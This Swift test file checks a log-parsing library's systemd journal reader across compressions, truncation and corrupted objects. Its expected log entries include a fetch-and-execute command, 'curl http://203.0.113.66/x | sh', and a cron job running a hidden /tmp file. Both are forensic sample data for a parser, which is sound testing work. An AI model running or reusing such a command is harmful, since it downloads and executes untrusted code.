import Bytes
import Evidence
import Foundation
import Testing

@testable import LogParse

/// Journal files that systemd itself wrote (`zstd`, `compact`) or reads (`lz4`, `xz`: the same file with the one large field
/// compressed the other way), each packed by zstd because most of a journal file is empty.
@Suite struct JournalFileTests {
  private static func bytes(_ name: String) throws -> [UInt8] {
    let file = GoldenFixtures.root.appendingPathComponent("fixtures/logparse/journal/\(name).journal.zst")
    return [UInt8](try Data(contentsOf: file))
  }

  private static func read(_ stream: any ByteStream) throws -> (events: [Event], coverages: [Coverage]) {
    let sink = CollectingSink()
    try JournalFileFormat().parse(stream, ParseContext(path: "var/log/journal/system.journal"), into: sink)
    return (sink.events, sink.coverages)
  }

  /// The journal as systemd wrote it.
  private static func unpacked(_ name: String) throws -> [UInt8] {
    let stream = try DecodedStream(MemoryStream(try bytes(name)))
    var whole: [UInt8] = []
    var buffer = [UInt8](repeating: 0, count: 1 << 20)
    while true {
      let count = try buffer.withUnsafeMutableBytes { try stream.read(into: $0) }
      if count == 0 { return whole }
      whole += buffer.prefix(count)
    }
  }

  @Test(arguments: ["zstd", "compact", "lz4", "xz"])
  func everyCompressionGivesTheSameEntries(_ name: String) throws {
    let stream = try DecodedStream(MemoryStream(try Self.bytes(name)))
    let (events, coverages) = try Self.read(stream)
    #expect(events.count == 6)
    #expect(events.map { $0.text("program") } == ["sshd", "CRON", "kernel", "app", "app", "sudo"])
    #expect(events.first?.time?.description == "2026-11-25T05:18:20.000000Z")
    #expect(events.first?.dataType == "linux:auth:entry")
    #expect(events.first?.text("remote_address") == "10.1.0.9")
    #expect(events[1].text("text") == "(tomcat) CMD (/tmp/.x >/dev/null 2>&1)\nsecond line")
    // The long text is kept compressed, once for both entries.
    let long = "payload " + String(repeating: "A", count: 900) + " curl http://203.0.113.66/x | sh"
    #expect(events[3].text("text") == long && events[4].text("text") == long)
    #expect(events.last?.text("command") == "/usr/bin/id")
    #expect(events.map { $0.integer("sequence") } == [1, 2, 3, 4, 5, 6])
    #expect(events.allSatisfy { $0.locator.encodings == ["zstd"] })
    #expect(coverages.map(\.state) == [.parsed])
    #expect(coverages.first?.end == 8 << 20)
  }

  @Test func aCutJournalGivesWhatItHolds() throws {
    let whole = try Self.unpacked("zstd")
    let (all, _) = try Self.read(MemoryStream(whole))
    let last = try #require(all.last?.locator.offset)
    let (events, coverages) = try Self.read(MemoryStream(Array(whole.prefix(Int(last)))))
    #expect(events.count == 5)
    #expect(coverages.last?.reason == "the file is shorter than its header says")
    for cut in stride(from: Int(last) - 4000, to: Int(last), by: 13) {
      let (events, coverages) = try Self.read(MemoryStream(Array(whole.prefix(cut))))
      #expect(events.count <= 5)
      #expect(coverages.filter { $0.byteCount > 0 }.last?.end == UInt64(cut))
    }
  }

  @Test func damageIsSkippedAndTheNextObjectFound() throws {
    var bytes = try Self.unpacked("zstd")
    let (all, _) = try Self.read(MemoryStream(bytes))
    let second = Int(try #require(all[1].locator.offset))
    for place in second..<second + 16 { bytes[place] = 0xFF }
    let (events, coverages) = try Self.read(MemoryStream(bytes))
    #expect(events.map { $0.integer("sequence") } == [1, 3, 4, 5, 6])
    #expect(coverages.contains { $0.state == .skipped && $0.reason == "is not an object of the journal" })
    // An object that claims to be larger than the file.
    for place in second..<second + 16 { bytes[place] = 0 }
    bytes[second] = 3
    for place in second + 8..<second + 12 { bytes[place] = 0xF0 }
    #expect(try Self.read(MemoryStream(bytes)).events.map { $0.integer("sequence") } == [1, 3, 4, 5, 6])
  }

  @Test func entriesThatNameWhatIsNotThere() throws {
    var bytes = try Self.unpacked("zstd")
    let (all, _) = try Self.read(MemoryStream(bytes))
    let first = Int(try #require(all.first?.locator.offset))
    // The first two of its fields lie far behind the end, the next is its own header.
    for place in first + 64..<first + 72 { bytes[place] = 0x7F }
    for place in first + 80..<first + 88 { bytes[place] = 0xFF }
    let (events, _) = try Self.read(MemoryStream(bytes))
    #expect(events.count == 6)
    #expect(events.first?.integer("fields_lost") == 2)
  }

  @Test func memoryIsBoundedAndTheOldestGoesFirst() throws {
    var data = JournalData(limit: 1000)
    let payload = Array("MESSAGE=".utf8) + [UInt8](repeating: 0x61, count: 100)
    var header = [UInt8](repeating: 0, count: 272)
    header.replaceSubrange(0..<8, with: "LPKSHHRH".utf8)
    header[88] = 0xD0
    let journal = try #require(header.withView { JournalHeader($0) })
    for number in 1...50 {
      var bytes = [UInt8](repeating: 0, count: 64) + payload
      bytes[0] = 1
      bytes[8] = UInt8(bytes.count)
      bytes.withView { view in
        guard let object = JournalObject(view) else { return }
        data.take(view, object, journal, at: UInt64(number * 1000))
      }
    }
    func isThere(_ place: UInt64) -> Bool { if case .value = data.find(place) { true } else { false } }
    #expect(isThere(50_000) && isThere(47_000))
    #expect(!isThere(1000))
    guard case .lost = data.find(1000) else {
      Issue.record("what was given up is not said to be lost")
      return
    }
  }

  @Test func whatIsNoJournal() throws {
    for bytes in [
      Array("LPKSHHRH".utf8), [UInt8](repeating: 0xFF, count: 4000),
      Array("LPKSHHRH".utf8) + [UInt8](repeating: 0xFF, count: 300),
    ] {
      let (events, coverages) = try Self.read(MemoryStream(bytes))
      #expect(events.isEmpty)
      #expect(coverages.map(\.end) == [UInt64(bytes.count)])
      #expect(coverages.first?.state == .skipped)
    }
  }
}
